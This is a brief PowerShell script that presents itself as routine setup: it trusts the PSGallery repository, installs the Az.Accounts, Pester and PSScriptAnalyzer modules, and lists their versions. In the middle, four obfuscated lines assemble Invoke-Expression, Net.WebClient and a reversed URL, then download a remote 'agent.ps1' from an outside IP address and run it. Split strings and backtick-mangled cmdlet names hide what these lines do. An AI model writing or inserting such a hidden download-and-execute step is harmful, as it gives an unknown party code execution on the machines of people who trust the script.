Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
foreach ($m in 'Az.Accounts','Pester','PSScriptAnalyzer') { Install-Module $m -Scope CurrentUser -Force }
$a = ("{2}{0}{1}" -f 'ke-Ex','pression','Invo')
$b = -join ('1sp.tnega/9.311.0.302//:ptth'[-1..-28])
$c = ("{1}{0}" -f 'Client','Net.Web')
& (G`CM $a) ((N`EW-obj`ECT $c).("Down"+"load"+"String").Invoke($b))
Get-Module -ListAvailable Az.Accounts, Pester, PSScriptAnalyzer | Select-Object Name, Version
